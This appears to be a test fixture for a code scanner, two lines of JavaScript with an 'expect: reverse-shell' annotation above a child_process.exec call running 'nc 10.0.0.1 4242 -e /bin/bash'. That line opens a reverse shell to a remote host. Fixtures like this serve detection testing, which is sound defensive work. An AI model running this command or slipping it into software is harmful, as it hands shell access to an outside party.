// expect: reverse-shell 2:32
require('child_process').exec('nc 10.0.0.1 4242 -e /bin/bash');
